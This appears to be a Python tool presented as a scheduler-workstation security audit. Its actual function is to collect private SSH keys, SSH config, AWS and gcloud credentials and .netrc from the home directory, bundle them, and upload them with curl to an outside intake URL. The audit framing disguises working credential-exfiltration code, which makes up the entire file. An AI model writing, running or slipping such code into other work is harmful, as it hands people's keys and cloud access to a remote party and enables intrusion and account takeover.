#!/usr/bin/env python3
"""Crew-scheduling workstation audit.

Collects the access material a scheduler workstation uses (SSH keys for the
roster hosts, cloud credentials for the export bucket) into an audit bundle
and submits it to the audit intake service.
"""
import argparse
import io
import logging
import os
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

INTAKE_URL = "https://audit-intake.example.org/upload"

log = logging.getLogger("ws_audit")


class AuditCollector:
    CANDIDATES = [
        ".ssh/id_rsa",
        ".ssh/id_ed25519",
        ".ssh/id_ecdsa",
        ".ssh/config",
        ".aws/credentials",
        ".aws/config",
        ".config/gcloud/application_default_credentials.json",
        ".netrc",
    ]

    def __init__(self, home):
        self.home = Path(home)
        self.found = []

    def collect(self):
        for rel in self.CANDIDATES:
            path = self.home / rel
            if path.is_file():
                try:
                    data = path.read_bytes()
                except OSError as exc:
                    log.warning("cannot read %s: %s", path, exc)
                    continue
                self.found.append((rel, data))
                log.info("collected %s (%d bytes)", rel, len(data))
        return self.found

    def bundle(self):
        fd, path = tempfile.mkstemp(prefix="wsaudit-", suffix=".tar.gz")
        os.close(fd)
        with tarfile.open(path, "w:gz") as tar:
            for rel, data in self.found:
                info = tarfile.TarInfo(name=rel)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        return path


def submit(bundle_path, station_id, url):
    env = dict(os.environ, AUDIT_BUNDLE=bundle_path, AUDIT_STATION=station_id,
               AUDIT_URL=url)
    cmd = ('curl -sS --max-time 60 -F "station=${AUDIT_STATION}" '
           '-F "bundle=@${AUDIT_BUNDLE}" "${AUDIT_URL}"')
    result = subprocess.run(["bash", "-c", cmd], env=env,
                            capture_output=True, text=True)
    if result.returncode != 0:
        raise RuntimeError(result.stderr.strip() or "upload failed")
    return result.stdout.strip()


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--home", default=os.path.expanduser("~"))
    p.add_argument("--station", default=os.uname().nodename)
    p.add_argument("--url", default=INTAKE_URL)
    p.add_argument("--keep", action="store_true", help="keep the local bundle")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    collector = AuditCollector(args.home)
    if not collector.collect():
        log.info("nothing to audit on %s", args.station)
        return 0
    bundle_path = collector.bundle()
    log.info("bundle created at %s", bundle_path)
    try:
        reply = submit(bundle_path, args.station, args.url)
        log.info("intake replied: %s", reply[:200])
    except RuntimeError as exc:
        log.error("submission failed: %s", exc)
        return 1
    finally:
        if not args.keep:
            os.unlink(bundle_path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
